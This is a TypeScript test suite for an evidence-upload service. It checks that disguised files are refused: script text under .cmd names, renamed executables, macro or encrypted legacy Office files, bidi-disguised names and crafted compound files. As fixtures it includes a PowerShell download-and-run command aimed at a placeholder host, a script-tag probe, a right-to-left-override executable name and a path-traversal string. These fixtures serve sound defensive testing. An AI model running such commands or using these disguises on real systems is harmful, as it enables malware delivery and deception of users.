// File names and types as a security review found them: scripts passing as text under their own
// name, compound files that are installers or Outlook messages passing as Office, and names or
// text disguised with Unicode direction controls.
import { mkdtemp, open, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import CFB from "cfb";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { displayTextProblem } from "@/lib/domain/text";
import { extensionOf, nameTypeProblem } from "@/lib/evidence/extensions";
import {
  ALLOWED_DESCRIPTION,
  allowedType,
  detectBuffer,
  detectFile,
  extensionProblem,
  LEGACY_OFFICE_MAX_BYTES,
  servedFileName,
  type Detection,
} from "@/lib/evidence/file-types";
import { fileNameProblem } from "@/lib/evidence/names";
import { evidenceDetailsSchema } from "@/lib/validation/evidence";
import { createUserSchema } from "@/lib/validation/user";

const mimeOf = (d: Detection) => (d.ok ? d.type.mime : `refused: ${d.reason}`);
const reasonOf = (d: Detection) => (d.ok ? `accepted as ${d.type.mime}` : d.reason);

const SCRIPT = Buffer.from('powershell -c "iwr http://x | iex"\r\n');
const JPEG = Buffer.concat([Buffer.from("ffd8ffe000104a46494600010100000100010000", "hex"), Buffer.alloc(200, 0x11)]);
const PNG = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==",
  "base64",
);
/** An ISO media file with the given major brand, then filler. */
const isoMedia = (brand: string) =>
  Buffer.concat([
    Buffer.from("00000018667479", "hex"),
    Buffer.from(`p${brand}`, "latin1"),
    Buffer.from("00000200", "hex"),
    Buffer.from("isomiso2"),
    Buffer.alloc(4096, 7),
  ]);
/** An Ogg page whose first packet is an Opus header. */
const OPUS = Buffer.concat([
  Buffer.from("OggS"),
  Buffer.from([0, 2]),
  Buffer.alloc(20),
  Buffer.from([1, 19]),
  Buffer.from("OpusHead"),
  Buffer.alloc(200, 1),
]);

describe("plain text under a script's name", () => {
  it("is still detected as text, but refused once the name is known", async () => {
    expect(mimeOf(await detectBuffer(SCRIPT))).toBe("text/plain");
    expect(reasonOf(await detectBuffer(SCRIPT, "fix.cmd"))).toBe(
      "The file is called fix.cmd, but its content is plain text: only .txt, .text, .log or .md names are accepted for plain text.",
    );
  });

  it.each([["notes.txt"], ["NOTES.TXT"], ["call log.log"], ["README.md"], ["notes"]])(
    "accepts text called %s",
    async (name) => {
      expect(mimeOf(await detectBuffer(Buffer.from("Called the customer back about their bill.\n"), name))).toBe(
        "text/plain",
      );
    },
  );

  it.each([["fix.bat"], ["fix.ps1"], ["fix.sh"], ["fix.js"], ["fix.vbs"], ["data.csv"], ["fix.cmd."], ["fix.CMD"]])(
    "refuses text called %s",
    async (name) => {
      expect(reasonOf(await detectBuffer(SCRIPT, name))).toMatch(
        /^The file is called .*, but its content is plain text/,
      );
    },
  );

  it("refuses it from a stored file too (detectFile)", async () => {
    const dir = await mkdtemp(path.join(tmpdir(), "types-"));
    try {
      await writeFile(path.join(dir, "upload"), SCRIPT);
      expect(reasonOf(await detectFile(path.join(dir, "upload"), "fix.cmd"))).toContain(
        "only .txt, .text, .log or .md names",
      );
      expect(mimeOf(await detectFile(path.join(dir, "upload"), "fix.txt"))).toBe("text/plain");
      expect(mimeOf(await detectFile(path.join(dir, "upload")))).toBe("text/plain");
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });
});

describe("a name's extension must fit the content", () => {
  it.each([
    ["photo.jpg", JPEG, "image/jpeg"],
    ["IMG_0042.JPEG", JPEG, "image/jpeg"],
    ["photo.jfif", JPEG, "image/jpeg"],
    ["IMG_0099.png", PNG, "image/png"],
    // file-type reports the container brand: these real-world pairs must pass.
    ["voice.m4a", isoMedia("M4A "), "audio/x-m4a"],
    ["voice.m4a", isoMedia("isom"), "video/mp4"],
    ["book.m4b", isoMedia("M4B "), "audio/mp4"],
    ["IMG_0001.MOV", isoMedia("qt  "), "video/quicktime"],
    ["clip.mov", isoMedia("isom"), "video/mp4"],
    ["clip.mp4", isoMedia("mp42"), "video/mp4"],
    ["clip.m4v", isoMedia("M4V "), "video/mp4"],
    ["clip.3gp", isoMedia("3gp4"), "video/3gpp"],
    ["voice.opus", OPUS, "audio/ogg"],
    ["voice.ogg", OPUS, "audio/ogg"],
  ])("accepts %s holding %s", async (name, bytes, mime) => {
    expect(mimeOf(await detectBuffer(bytes, name))).toBe(mime);
  });

  it.each([
    [
      "photo.exe",
      JPEG,
      "The file is called photo.exe, but its content is a JPEG photo: only .jpg, .jpeg or .jfif names are accepted for a JPEG photo.",
    ],
    [
      "photo.png",
      JPEG,
      "The file is called photo.png, but its content is a JPEG photo: only .jpg, .jpeg or .jfif names are accepted for a JPEG photo.",
    ],
    [
      "photo.jpg",
      PNG,
      "The file is called photo.jpg, but its content is a PNG image: only .png names are accepted for a PNG image.",
    ],
    [
      "clip.mkv",
      isoMedia("isom"),
      "The file is called clip.mkv, but its content is an MP4 video: only .mp4, .m4v, .mov, .m4a or .m4b names are accepted for an MP4 video.",
    ],
  ])("refuses %s with a reason naming the type and the extension", async (name, bytes, reason) => {
    expect(reasonOf(await detectBuffer(bytes, name))).toBe(reason);
  });

  it("reads the extension as Windows does", () => {
    expect(extensionOf("report.PDF")).toBe("pdf");
    expect(extensionOf("archive.tar.gz")).toBe("gz");
    expect(extensionOf("fix.cmd. . ")).toBe("cmd");
    expect(extensionOf("notes")).toBeNull();
    expect(nameTypeProblem("notes", allowedType("text/plain")!)).toBeNull();
  });

  it("keeps refusing markup and programs by content first", async () => {
    expect(reasonOf(await detectBuffer(Buffer.from("<!DOCTYPE html><script>alert(1)</script>"), "page.txt"))).toContain(
      "web page or script markup",
    );
    expect(
      reasonOf(await detectBuffer(Buffer.concat([Buffer.from("MZ"), Buffer.alloc(2000, 3)]), "setup.pdf")),
    ).toContain("cannot be used as evidence");
  });
});

describe("extensionProblem, before any bytes are uploaded", () => {
  it.each([
    ["fix.cmd"],
    ["setup.exe"],
    ["page.html"],
    ["x.svg"],
    ["run.ps1"],
    ["data.csv"],
    ["installer.msi"],
    ["message.msg"],
    ["fix.cmd."],
  ])("refuses %s", (name) => {
    expect(extensionProblem(name)).toMatch(
      /^The file is called .*, and \.\w+ files cannot be used as evidence\. Accepted: /,
    );
  });
  it("names the extension and what is accepted", () => {
    expect(extensionProblem("setup.exe")).toBe(
      `The file is called setup.exe, and .exe files cannot be used as evidence. Accepted: ${ALLOWED_DESCRIPTION}.`,
    );
  });
  it.each([
    ["report.pdf"],
    ["IMG_0042.HEIC"],
    ["notes"],
    ["voice.opus"],
    ["minutes.doc"],
    ["budget.xls"],
    ["talk.ppt"],
    ["clip.webm"],
    ["film.mkv"],
  ])("lets %s start", (name) => {
    expect(extensionProblem(name)).toBeNull();
  });
});

describe("servedFileName", () => {
  it.each([
    ["notes", "text/plain", "notes.txt"],
    ["fix.cmd", "text/plain", "fix.cmd.txt"],
    ["fix.cmd.", "text/plain", "fix.cmd.txt"],
    ["report.pdf", "application/pdf", "report.pdf"],
    ["report", "application/pdf", "report.pdf"],
    ["IMG_0042.JPG", "image/jpeg", "IMG_0042.JPG"],
    ["clip.mov", "video/mp4", "clip.mov"],
    ["voice.m4a", "video/mp4", "voice.m4a"],
    ["minutes.doc", "application/msword", "minutes.doc"],
    ["minutes", "application/vnd.ms-excel", "minutes.xls"],
    ["invoice\u202Efdp.exe", "application/pdf", "invoicefdp.exe.pdf"],
    // Stored before the rule as "application/x-cfb": only Office names are kept.
    ["old.doc", "application/x-cfb", "old.doc"],
    ["setup.msi", "application/x-cfb", "setup.msi.bin"],
    ["odd", "application/x-unknown", "odd.bin"],
  ])("serves %s (%s) as %s", (name, mime, served) => {
    expect(servedFileName(name, mime)).toBe(served);
  });
});

describe("file names", () => {
  it.each([
    ["invoice\u202Efdp.exe", "hidden characters that change the direction of text (here U+202E)"],
    ["report\u2066.pdf", "U+2066"],
    ["\u200Freport.pdf", "U+200F"],
    ["report\u061C.pdf", "U+061C"],
    ["report\u0085.pdf", "control characters"],
    ["report\u009B.pdf", "control characters"],
    ["report\t.pdf", "control characters"],
    ["fix.cmd.", "cannot end with a dot or a space"],
    ["notes.txt ", "cannot end with a dot or a space"],
    ["a:b.txt", 'cannot contain any of these characters: < > : " | ? *'],
    ["a|b.txt", "any of these characters"],
    ["a?b.txt", "any of these characters"],
    ["a*b.txt", "any of these characters"],
    ["<b>.txt", "any of these characters"],
    ['a"b.txt', "any of these characters"],
    ["../../etc/passwd", "folder parts"],
  ])("refuses %j", (name, reason) => {
    expect(fileNameProblem(name)).toContain(reason);
  });
  it.each([["notes.txt"], ["Café menu (final).pdf"], ["📷 photo.jpg"], ["Minutes 3.4.2025.docx"], ["notes"]])(
    "accepts %j",
    (name) => {
      expect(fileNameProblem(name)).toBeNull();
    },
  );
});

describe("displayTextProblem and the forms that use it", () => {
  it("refuses direction controls and control characters, allowing layout only where multiline", () => {
    expect(displayTextProblem("Jane Doe")).toBeNull();
    expect(displayTextProblem("Jane\u202EeoD", { subject: "Names" })).toBe(
      "Names cannot contain hidden characters that change the direction of text (here U+202E), because they can make text look like something else.",
    );
    expect(displayTextProblem("First line\r\nSecond\tline", { multiline: true })).toBeNull();
    expect(displayTextProblem("First line\nSecond", { subject: "Titles" })).toBe(
      "Titles cannot contain control characters, tabs or line breaks (here U+000A).",
    );
    expect(displayTextProblem("Ring\u0007", { multiline: true, subject: "Descriptions" })).toBe(
      "Descriptions cannot contain control characters other than tabs and line breaks (here U+0007).",
    );
    expect(displayTextProblem("Broken \uD800 half")).toContain("broken (unpaired)");
    expect(displayTextProblem("Emoji 😀 fine, and Ünïcödé too")).toBeNull();
  });

  it("refuses a bidi-laced person's name", () => {
    const result = createUserSchema.safeParse({
      name: "Jane \u202Eeod",
      email: "jane@example.com",
      password: "long enough password",
      roles: ["ASSESSOR"],
    });
    expect(result.success).toBe(false);
    const name = result.error!.issues.filter((i) => i.path[0] === "name").map((i) => i.message);
    expect(name).toEqual([expect.stringContaining("change the direction of text")]);
  });

  it("refuses a bidi-laced title and a description with control characters, keeping line breaks", () => {
    const base = {
      title: "Call log",
      description: "Line one\r\nLine two\twith a tab",
      activityDate: "2020-01-01",
      method: "PRODUCT",
    };
    expect(evidenceDetailsSchema.safeParse(base).success).toBe(true);
    const bad = evidenceDetailsSchema.safeParse({ ...base, title: "Call \u2067log", description: "Bell\u0007" });
    expect(bad.success).toBe(false);
    const messages = Object.fromEntries(bad.error!.issues.map((i) => [String(i.path[0]), i.message]));
    expect(messages.title).toContain(
      "Titles cannot contain hidden characters that change the direction of text (here U+2067)",
    );
    expect(messages.description).toBe(
      "Descriptions cannot contain control characters other than tabs and line breaks (here U+0007).",
    );
  });
});

// ------------------------------------------------------------------------------------------------
// Older Office files, built with SheetJS's cfb writer (an independent implementation of MS-CFB).

/** A compound file holding these streams ("/Storage/Stream" paths make storages). */
function compoundFile(streams: Record<string, Buffer>): Buffer {
  const cfb = CFB.utils.cfb_new();
  for (const [name, content] of Object.entries(streams)) CFB.utils.cfb_add(cfb, name, content);
  return Buffer.from(CFB.write(cfb, { type: "buffer" }) as Uint8Array);
}
const padded = (bytes: Buffer, size: number) => Buffer.concat([bytes, Buffer.alloc(Math.max(0, size - bytes.length))]);

/** A BIFF record: type, length, data. */
const biff = (type: number, data: Buffer) => {
  const head = Buffer.alloc(4);
  head.writeUInt16LE(type, 0);
  head.writeUInt16LE(data.length, 2);
  return Buffer.concat([head, data]);
};
/** BoundSheet8: position, visibility, sheet type, then a one-byte-per-character name. */
const boundSheet = (sheetType: number, name: string) =>
  biff(
    0x0085,
    Buffer.concat([Buffer.alloc(4), Buffer.from([0, sheetType, name.length, 0]), Buffer.from(name, "latin1")]),
  );
const workbook = (...sheets: Buffer[]) =>
  Buffer.concat([biff(0x0809, Buffer.alloc(16)), ...sheets, biff(0x000a, Buffer.alloc(0))]);

/** A PowerPoint record: version and instance, type, length, data. */
const pptRecord = (version: number, type: number, data: Buffer) => {
  const head = Buffer.alloc(8);
  head.writeUInt16LE(version, 0);
  head.writeUInt16LE(type, 2);
  head.writeUInt32LE(data.length, 4);
  return Buffer.concat([head, data]);
};
const vbaInfo = (hasMacros: number) => {
  const atom = Buffer.alloc(12);
  atom.writeUInt32LE(1, 0);
  atom.writeUInt32LE(hasMacros, 4);
  atom.writeUInt32LE(2, 8);
  return pptRecord(0x0f, 0x03ff, pptRecord(0x02, 0x0400, atom));
};
const presentation = (...children: Buffer[]) =>
  padded(pptRecord(0x0f, 0x03e8, Buffer.concat([pptRecord(0x01, 0x03e9, Buffer.alloc(40)), ...children])), 8192);
const currentUser = (token: number) => {
  const atom = Buffer.alloc(20);
  atom.writeUInt32LE(0x14, 0);
  atom.writeUInt32LE(token, 4);
  return pptRecord(0x00, 0x0ff6, atom);
};

const WORD_STREAM = padded(Buffer.from("ecc5", "hex"), 6000); // FIB magic 0xA5EC, then room
const SUMMARY = { "/\u0005SummaryInformation": Buffer.alloc(200, 1) };

describe("older Office files", () => {
  it.each([
    [
      "minutes.doc",
      { "/WordDocument": WORD_STREAM, "/1Table": Buffer.alloc(300, 2), ...SUMMARY },
      "application/msword",
    ],
    ["template.dot", { "/WordDocument": Buffer.alloc(100, 1), "/0Table": Buffer.alloc(100, 2) }, "application/msword"],
    [
      "budget.xls",
      { "/Workbook": padded(workbook(boundSheet(0, "Sheet1"), boundSheet(2, "Chart1")), 5000), ...SUMMARY },
      "application/vnd.ms-excel",
    ],
    ["small.xls", { "/Workbook": workbook(boundSheet(0, "Sheet1")) }, "application/vnd.ms-excel"],
    ["old.xls", { "/Book": workbook(boundSheet(0, "Sheet1")) }, "application/vnd.ms-excel"],
    [
      "talk.ppt",
      { "/PowerPoint Document": presentation(vbaInfo(0)), "/Current User": currentUser(0xe391c05f), ...SUMMARY },
      "application/vnd.ms-powerpoint",
    ],
  ])("accepts a real one, %s, under its own type", async (name, streams, mime) => {
    const file = compoundFile(streams);
    expect(mimeOf(await detectBuffer(file))).toBe(mime);
    expect(mimeOf(await detectBuffer(file, name))).toBe(mime);
  });

  it("refuses a Word document called by another type's name", async () => {
    const doc = compoundFile({ "/WordDocument": WORD_STREAM });
    expect(reasonOf(await detectBuffer(doc, "minutes.xls"))).toBe(
      "The file is called minutes.xls, but its content is a Word 97-2003 document: only .doc or .dot names are accepted for a Word 97-2003 document.",
    );
    expect(reasonOf(await detectBuffer(doc, "minutes.msi"))).toContain("only .doc or .dot names");
  });

  it.each([
    [
      "an Outlook message",
      {
        "/__substg1.0_0037001F": Buffer.from("S\0u\0b\0"),
        "/__substg1.0_1000001F": Buffer.alloc(64, 1),
        "/__properties_version1.0": Buffer.alloc(32),
      },
      "The file is an Outlook message",
    ],
    [
      "a Windows Installer package",
      {
        "/\u4840\u3F3F\u4577\u446C\u3E6A\u44B2\u482F": Buffer.alloc(64, 1),
        "/\u4840\u3B3F\u4577\u446C\u3B6A\u45E4\u4824": Buffer.alloc(64, 2),
        ...SUMMARY,
      },
      "The file is a Windows Installer package",
    ],
    ["another compound file", { "/Contents": Buffer.alloc(64, 1) }, "not a Word, Excel or PowerPoint 97-2003 document"],
    [
      "an encrypted .docx",
      { "/EncryptionInfo": Buffer.alloc(64, 1), "/EncryptedPackage": Buffer.alloc(5000, 2) },
      "password-protected Office document",
    ],
    [
      "a Word document with macros",
      { "/WordDocument": WORD_STREAM, "/Macros/VBA/dir": Buffer.alloc(64, 1), "/Macros/PROJECT": Buffer.alloc(64, 1) },
      "a Word 97-2003 document that contains macros",
    ],
    [
      "an Excel workbook with VBA",
      { "/Workbook": workbook(boundSheet(0, "Sheet1")), "/_VBA_PROJECT_CUR/VBA/dir": Buffer.alloc(64, 1) },
      "an Excel 97-2003 workbook that contains macros",
    ],
    [
      "an Excel 4.0 macro sheet",
      { "/Workbook": padded(workbook(boundSheet(0, "Sheet1"), boundSheet(1, "Macro1")), 5000) },
      "an Excel 97-2003 workbook that contains macros",
    ],
    [
      "a password-protected workbook",
      { "/Workbook": workbook(biff(0x002f, Buffer.alloc(54)), boundSheet(0, "Sheet1")) },
      "password-protected Excel 97-2003 workbook",
    ],
    [
      "a PowerPoint presentation with VBA",
      { "/PowerPoint Document": presentation(vbaInfo(1)) },
      "a PowerPoint 97-2003 presentation that contains macros",
    ],
    [
      "an encrypted presentation",
      { "/PowerPoint Document": presentation(), "/Current User": currentUser(0xf3d1c4df) },
      "password-protected PowerPoint 97-2003 presentation",
    ],
    [
      "a document with an embedded VBA project",
      { "/WordDocument": WORD_STREAM, "/ObjectPool/_1234/VBA/dir": Buffer.alloc(64, 1) },
      "contains macros",
    ],
  ])("refuses %s", async (_, streams, reason) => {
    expect(reasonOf(await detectBuffer(compoundFile(streams), "minutes.doc"))).toContain(reason);
  });

  it("no longer knows application/x-cfb as an accepted type", () => {
    expect(allowedType("application/x-cfb")).toBeUndefined();
    expect(allowedType("application/msword")?.kind).toBe("document");
    expect(allowedType("application/vnd.ms-excel")?.label).toBe("Excel 97-2003 workbook");
    expect(allowedType("application/vnd.ms-powerpoint")?.extensions).toEqual(["ppt"]);
  });

  it("refuses, quickly, a directory whose entries point at each other (the cfb package runs out of memory on it)", async () => {
    const file = compoundFile({ "/WordDocument": WORD_STREAM, "/X": Buffer.alloc(10) });
    const directory = (file.readUInt32LE(0x30) + 1) * 512;
    const link = (entry: number, field: number, to: number) => file.writeUInt32LE(to, directory + entry * 128 + field);
    link(0, 0x4c, 1); // root's child: entry 1
    link(1, 0x48, 2); // entry 1's right sibling: entry 2
    link(2, 0x48, 1); // and back
    const started = Date.now();
    expect(reasonOf(await detectBuffer(file, "minutes.doc"))).toContain("could not be read");
    expect(Date.now() - started).toBeLessThan(1000);
  });

  it("refuses a truncated one as unreadable", async () => {
    const file = compoundFile({ "/WordDocument": WORD_STREAM });
    expect(reasonOf(await detectBuffer(file.subarray(0, 1024), "minutes.doc"))).toContain("could not be read");
  });

  describe("over the cap", () => {
    let dir: string;
    beforeAll(async () => {
      dir = await mkdtemp(path.join(tmpdir(), "types-"));
    });
    afterAll(async () => {
      await rm(dir, { recursive: true, force: true });
    });

    it(`refuses one larger than ${LEGACY_OFFICE_MAX_BYTES / 1024 ** 2} MB without reading it, asking for the current format`, async () => {
      const file = path.join(dir, "big");
      await writeFile(file, compoundFile({ "/WordDocument": WORD_STREAM }));
      const handle = await open(file, "r+");
      await handle.truncate(LEGACY_OFFICE_MAX_BYTES + 1024 ** 2); // sparse: takes no disk space
      await handle.close();
      expect(reasonOf(await detectFile(file, "big.doc"))).toBe(
        "The file is an older Office (97-2003) file of 65.0 MB; those can be at most 64.0 MB. Open it in Office, save it in the current format (.docx, .xlsx or .pptx) and upload that.",
      );
    });

    it("reads one under the cap from disk", async () => {
      const file = path.join(dir, "small");
      await writeFile(file, compoundFile({ "/WordDocument": WORD_STREAM }));
      expect(mimeOf(await detectFile(file, "small.doc"))).toBe("application/msword");
    });
  });
});

describe("a crafted compound file cannot make the check costly", () => {
  it("refuses storages nested deeper than any Office file, quickly", async () => {
    const deep = `/${Array.from({ length: 40 }, (_, i) => `s${i}`).join("/")}/x`;
    const file = compoundFile({ WordDocument: padded(Buffer.from([0xec, 0xa5]), 4096), [deep]: Buffer.from("x") });
    const started = Date.now();
    const detected = await detectBuffer(file, "deep.doc");
    expect(detected.ok).toBe(false);
    expect(Date.now() - started).toBeLessThan(2000);
  });
});
